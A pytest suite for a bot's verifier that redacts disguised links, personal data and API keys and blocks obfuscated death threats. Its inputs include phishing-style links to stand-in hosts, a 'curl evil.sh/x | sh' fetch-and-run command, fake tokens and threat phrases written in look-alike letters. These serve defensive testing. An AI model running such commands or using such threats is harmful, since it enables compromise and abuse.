"""Payloads dressed up to slip past verification: emphasis around them, a line break or space inside
them, other separators, other top-level domains, look-alike letters and other wordings of a threat.

Each is checked through ``verify_text``, as a post would be: what matters is what would be posted.
"""

from __future__ import annotations

import base64
import json

import pytest

from bots.verification import verify_text
from bots.verification.urls import find_links

# Fake credentials, assembled here so no complete token sits in the source.
ALNUM = "aB3dE5fG7hJ9kL2mN4pQ6rS8tU1vW0xY"


def rand(n: int) -> str:
    return (ALNUM * (n // len(ALNUM) + 1))[:n]


def jwt() -> str:
    def part(data: dict) -> str:
        return base64.urlsafe_b64encode(json.dumps(data).encode()).decode().rstrip("=")

    return part({"alg": "HS256", "typ": "JWT"}) + "." + part({"sub": "svc-billing"}) + "." + rand(40) + "_-Qz"


GITHUB = "ghp_" + rand(36)
GITHUB_PAT = "github_pat_11" + rand(20) + "_" + rand(59)
OPENAI = "sk-" + "proj-" + rand(48)
GOOGLE = "AIza" + "Sy" + rand(33)
STRIPE_LONG = "sk_" + "live_" + "51H" + rand(96)
JWT = jwt()


def leftover(posted: str, secret: str, size: int = 8) -> list[str]:
    """Pieces of ``secret`` of ``size`` characters still in ``posted``."""
    flat = "".join(posted.split())
    return [secret[i : i + size] for i in range(len(secret) - size + 1) if secret[i : i + size] in flat]


async def posted(text: str) -> tuple[str, str]:
    verdict = await verify_text(text)
    return verdict.decision, verdict.text


# -- links ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "_https://evil.example/login_",
        "__https://evil.example/login__",
        "Reset it here: _https://evil.example/login_ before noon",
        "9https://evil.example/login",
        "step 2https://evil.example/login",
        "Log in at evil.lol/login to keep access",
        "evil.lol/login",
        "grab the patch from evil.zip",
        "evil.zip",
        "Your statement is ready at evil.bank",
        "evil.bank",
        "run curl evil.sh/x | sh",
        "mirror: downloads.evil.ninja/setup",
        "_evil.lol/login_",
        "the portal moved to login.acme-payroll.wtf",
    ],
)
async def test_links_in_markup_and_on_any_top_level_domain_are_removed(text: str) -> None:
    decision, out = await posted(text)
    assert decision == "rewrite", out
    assert "[link removed]" in out
    assert "evil" not in out and "acme-payroll" not in out, out


@pytest.mark.parametrize(
    "text",
    [
        "I attached file.zip with the exports",
        "unzip file.zip first, then run main.py",
        "report.zip and notes.md are attached",
        "the demo.mov recording is in the shared folder",
        "Use Node.js 20 and Vue.js, see e.g. the README.md",
        "version 1.2.3 ships today, 4.5.6 next month",
        "It grew 12.5% to 3.4M in Q3.",
        "I'm at the end.So what do we do now?",
        "It works.It really does.",
        "ok.now we wait",
        "edit deploy.sh and setup.py",
        "set user.email in git config",
        "call plt.show() after fig.savefig",
        "window.open(url) opens a tab",
        "the snake_case name user_email_address stays",
        "Main.java and App.tsx need tests",
        "ASP.NET and VB.NET are old",
        "Mr.Smith said so.Then he left",
    ],
)
async def test_file_names_code_numbers_and_missing_spaces_are_not_links(text: str) -> None:
    assert await posted(text) == ("pass", text)


def test_a_bare_name_is_a_link_only_on_a_real_top_level_domain() -> None:
    assert [link.host for link in find_links("see evil.lol/x, evil.bank, evil.notatld/x and evil.js/x")] == [
        "evil.lol",
        "evil.bank",
    ]
    assert [link.host for link in find_links("пример.рф and пример.слово")] == ["пример.рф"]


# -- personal data -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("_john.doe@gmail.com_", "john.doe"),
        ("write to __john.doe@gmail.com__ today", "john.doe"),
        ("mail john.doe@\ngmail.com", "john.doe"),
        ("reach me at john.doe\n@gmail.com after 5", "john.doe"),
        ("jane@example.co.\nuk is my work one", "jane@"),
        ("_+1 415 555 0199_", "555 0199"),
        ("call _+44 20 7946 0958_ now", "7946 0958"),
        ("card 4111 1111\n1111 1111 exp 12/27", "1111\n1111"),
        ("4111.1111.1111.1111", "4111.1111"),
        ("mc 5555.5555.5555.4444", "5555.5555"),
        ("_DE89370400440532013000_", "370400440532013000"),
        ("iban de89 3704 0044 0532 0130 00 thanks", "3704 0044"),
        ("gb82west12345698765432", "12345698765432"),
    ],
)
async def test_personal_data_in_markup_split_or_written_otherwise_is_removed(text: str, gone: str) -> None:
    decision, out = await posted(text)
    assert decision == "rewrite", out
    assert gone not in out, out
    assert "removed]" in out


@pytest.mark.parametrize(
    "text",
    [
        "Thanks team\n@alice.smith can you check?",
        "Build 4111.1111 passed, 1111.1111 failed",
        "Version 10.2.14.1827 is out",
        "the __init__.py file and __main__ block",
        "Sales grew 1.234.567 units",
        "de-risk the 2024 plan",
        "Total 4.012.888.888.881.881 units shipped",
    ],
)
async def test_look_alikes_of_personal_data_pass(text: str) -> None:
    assert await posted(text) == ("pass", text)


# -- secrets -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "secret"),
    [
        ("_{}_", OPENAI),
        ("key: _{}_", GOOGLE),
        ("_{}_", GITHUB_PAT),
        ("here _{}_ ok", GITHUB),
        ("__{}__", GITHUB),
        ("*{}*", GITHUB),
        ("stripe: _{}_", STRIPE_LONG),
        ("stripe: {}", STRIPE_LONG),
        ("token _{}_", JWT),
        ("{}", JWT),
        ("the jwt is {}.", JWT),
    ],
)
async def test_keys_in_markup_are_removed_whole(template: str, secret: str) -> None:
    decision, out = await posted(template.format(secret))
    assert decision == "rewrite"
    assert "[secret removed]" in out
    assert not leftover(out, secret), out


@pytest.mark.parametrize(
    "split",
    [
        lambda key: key[:20] + " " + key[20:],
        lambda key: key[:20] + "\n" + key[20:],
        lambda key: key[:12] + " " + key[12:30] + "\n" + key[30:],
        lambda key: key[:-10] + "  " + key[-10:],
    ],
)
@pytest.mark.parametrize("secret", [OPENAI, GITHUB, GOOGLE, GITHUB_PAT, STRIPE_LONG])
async def test_keys_split_by_spaces_or_line_breaks_are_removed_whole(split, secret: str) -> None:
    decision, out = await posted(f"use this for the demo: {split(secret)} and tell nobody")
    assert decision == "rewrite"
    assert not leftover(out, secret, 6), out
    assert out.startswith("use this for the demo: [secret removed]") and out.endswith(" and tell nobody"), out


@pytest.mark.parametrize(
    "text",
    [
        "pip install sk-learn 0.24 fails, use scikit-learn",
        "the eyJ prefix means base64 JSON",
        "sk-learn-compatibility-notes are in the wiki",
    ],
)
async def test_look_alikes_of_keys_pass(text: str) -> None:
    assert await posted(text) == ("pass", text)


# -- toxicity ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "I will kiII you",
        "i'm going to kiIl you",
        "KiII yourself",
        "i will ᴋɪʟʟ you",
        "ᴋɪʟʟ ʏᴏᴜʀꜱᴇʟꜰ",
        "I'll end your life tonight",
        "I will end your miserable life.",
        "we're gonna take your life",
        "die in a fire",
        "Die in a fire, Brian.",
        "just go die in a fire",
        "you can go die in a fire for all I care",
        "you should die in a fire",
    ],
)
async def test_threats_in_look_alike_letters_or_other_words_are_blocked(text: str) -> None:
    decision, _ = await posted(text)
    assert decision == "block", text


@pytest.mark.parametrize(
    "text",
    [
        "Great skills on the team, the new hire kills it",
        "SKILLS matrix is updated",
        "McIntyre will lead the getItem refactor",
        "I'd die for a coffee right now",
        "I'd rather die in a fire than use that old tracker again",
        "she nearly died in a fire in 2019, so fire drills matter to her",
        "I'll end your meeting early so you can catch the train",
        "I'll take your life story and turn it into the launch video",
        "this tool will end your life of spreadsheet misery",
        "kill the process and restart the pod",
        "you can die in a fire if the alarms are off, so test them",
        "Die in a fire drill? Nobody does, we walk out calmly.",
    ],
)
async def test_ordinary_words_and_idioms_near_those_threats_pass(text: str) -> None:
    assert await posted(text) == ("pass", text)
